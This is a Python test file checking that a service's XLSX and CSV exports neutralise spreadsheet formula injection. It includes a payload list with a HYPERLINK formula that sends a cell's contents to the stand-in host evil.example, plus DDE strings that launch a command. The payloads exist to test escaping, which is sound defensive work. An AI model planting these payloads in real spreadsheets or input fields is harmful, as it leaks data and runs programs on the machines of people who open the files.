"""Formula injection in every spreadsheet the service writes: the admins' XLSX workbook
(every sheet), the cases CSV (dashboard, chat and `pakn export`), and the open data CSVs.
Text that a spreadsheet would run (OWASP: a cell starting with =, +, -, @, a tab or a
carriage return, here also after blanks and in full-width forms) is read back from the
file with openpyxl and the csv module: no cell is a formula, and each is the value
written, with the neutralising quote in front where one was needed."""

import csv
import io
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from bot.present.cells import NOT_IN_XML, PREFIX, safe_cell
from bot.present.exports import write_cases_csv, write_xlsx
from bot.present.i18n import use_locale
from bot.present.reports import make_report
from bot.web.opendata import _csv
from surveys.periods import parse_period
from surveys.report import Scope
from tests.conversation.harness import Harness
from tests.reports.data import local

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"bấm")', "=1+1", "+84912345678",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1",
            "  =1+1", "\n=1", "\u3000=1", "＝1+1", "'=already quoted", "=", "-", "Tổ 5 =1"]
HOSTILE = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda lead, trigger, rest: lead + trigger + rest,
              st.text(" \t\n\r", max_size=3), st.sampled_from(TRIGGERS), st.text(max_size=30)),
    st.text(max_size=40))
RUNS = settings(max_examples=60, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow])


def formula_like(text: str) -> bool:
    """What a spreadsheet may run: a formula sign after any blanks, or a tab or carriage
    return among the leading blanks."""
    stripped = text.lstrip()
    lead = text[:len(text) - len(stripped)]
    return ((stripped != "" and stripped[0] in "=+-@\uff1d\uff0b\uff0d\uff20")
            or "\t" in lead or "\r" in lead)


def expected(text: str, xlsx: bool = False) -> str:
    if xlsx:
        text = ILLEGAL_CHARACTERS_RE.sub("", text)
    return PREFIX + text if formula_like(text) else text


def test_the_characters_dropped_are_those_openpyxl_refuses() -> None:
    assert NOT_IN_XML.pattern == ILLEGAL_CHARACTERS_RE.pattern
    assert [c for c in map(chr, range(0x80)) if NOT_IN_XML.match(c)] == [
        chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))]


@given(text=HOSTILE)
@settings(max_examples=500, derandomize=True, database=None)
def test_a_cell_is_neutralised_exactly_when_a_spreadsheet_would_run_it(text: str) -> None:
    cell = safe_cell(text)
    assert cell == expected(text)
    assert not formula_like(cell), "what is written never starts a formula"
    for value in (0, -5, 3.5, None, True, datetime(2026, 3, 2)):
        assert safe_cell(value) == value  # numbers stay numbers


class Hostile:
    """The export port (bot.core.ports.ExportSource), its text columns hostile."""

    def __init__(self, texts: list[str]) -> None:
        self.texts = texts

    def _text(self, n: int) -> str:
        return self.texts[n % len(self.texts)]

    async def cases(self, start: datetime, end: datetime, unit: str | None = None,
                    field: str | None = None) -> AsyncIterator[tuple[Any, ...]]:
        for n in range(len(self.texts)):
            at = start + timedelta(hours=n)
            yield (self._text(n), at, self._text(n + 1), self._text(n + 2), self._text(n + 3),
                   self._text(n + 4), self._text(n + 5), at, None, at, 0, 4)

    async def ratings(self, start: datetime, end: datetime, unit: str | None = None,
                      field: str | None = None) -> AsyncIterator[tuple[Any, ...]]:
        for n in range(len(self.texts)):
            yield (start + timedelta(hours=n), self._text(n), self._text(n + 1),
                   self._text(n + 2), self._text(n + 3), True, 4,
                   {"overall": self._text(n + 4)}, self._text(n + 5))

    async def dossiers(self, start: datetime, end: datetime, unit: str | None = None,
                       field: str | None = None) -> AsyncIterator[tuple[Any, ...]]:
        for n in range(len(self.texts)):
            at = start + timedelta(hours=n)
            yield (self._text(n), self._text(n + 1), self._text(n + 2), self._text(n + 3),
                   "received", at, at + timedelta(days=3), None, None, None, None, None)


@RUNS
@given(texts=st.lists(HOSTILE, min_size=1, max_size=8))
async def test_the_workbook_has_no_formula_and_keeps_every_text(bot: Harness,
                                                                texts: list[str]) -> None:
    period = parse_period("2026-Q1")
    async with bot.store.unit_of_work() as uow:
        directory = await uow.directory.load()
        report = await make_report(uow.indicators, directory, period, Scope(),
                                   bot.clock(), bot.settings.tz)
    out = io.BytesIO()
    with use_locale("en"):
        await write_xlsx(out, report, Hostile(texts), directory, "en", bot.settings.tz,
                         bot.clock())
    book = load_workbook(io.BytesIO(out.getvalue()))
    wanted = {expected(text, xlsx=True) for text in texts}
    found: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not formula_like(cell.value), (sheet.title, cell.value)
                    found.add(cell.value)
    # Scrubbed comments aside, each hostile text is in the book as it was, quoted.
    assert {w for w in wanted if w.strip()} <= found | {""}, wanted - found


@RUNS
@given(texts=st.lists(HOSTILE, min_size=1, max_size=8))
async def test_the_cases_csv_has_no_formula_and_keeps_every_text(bot: Harness,
                                                                 texts: list[str]) -> None:
    async with bot.store.unit_of_work() as uow:
        directory = await uow.directory.load()
    start = local(2026, 1, 1)
    out = io.StringIO()
    with use_locale("en"):
        await write_cases_csv(out, Hostile(texts).cases(start, start + timedelta(days=90)),
                              directory, "en", bot.settings.tz)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [cell for row in rows for cell in row]
    assert not any(formula_like(cell) for cell in cells), cells
    assert rows[1][0] == expected(texts[0])


@given(texts=st.lists(HOSTILE, min_size=1, max_size=8))
@settings(max_examples=200, derandomize=True, database=None)
def test_the_open_data_csv_has_no_formula_and_keeps_every_text(texts: list[str]) -> None:
    columns = ("code", "question", "answer")
    response = _csv(columns, iter([[text, text, 3] for text in texts]), "cases.csv")
    assert response.text is not None
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == list(columns)
    assert [row[0] for row in rows[1:]] == [expected(text) for text in texts]
    assert not any(formula_like(cell) for row in rows for cell in row)
